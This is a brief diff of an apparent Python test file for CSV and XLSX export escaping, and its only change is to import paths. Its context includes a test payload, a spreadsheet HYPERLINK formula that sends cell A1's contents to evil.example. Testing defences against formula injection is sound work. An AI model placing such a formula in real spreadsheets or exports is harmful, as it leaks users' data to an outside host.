@@ -13,8 +13,8 @@ from typing import Any
 import openpyxl
 import pytest
 
-from hotline.export_cells import csv_cell
-from hotline.exports import FIGURES, rates_csv, rates_xlsx
+from hotline.reporting.export_cells import csv_cell
+from hotline.reporting.exports import FIGURES, rates_csv, rates_xlsx
 
 DANGEROUS = {
     "=": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
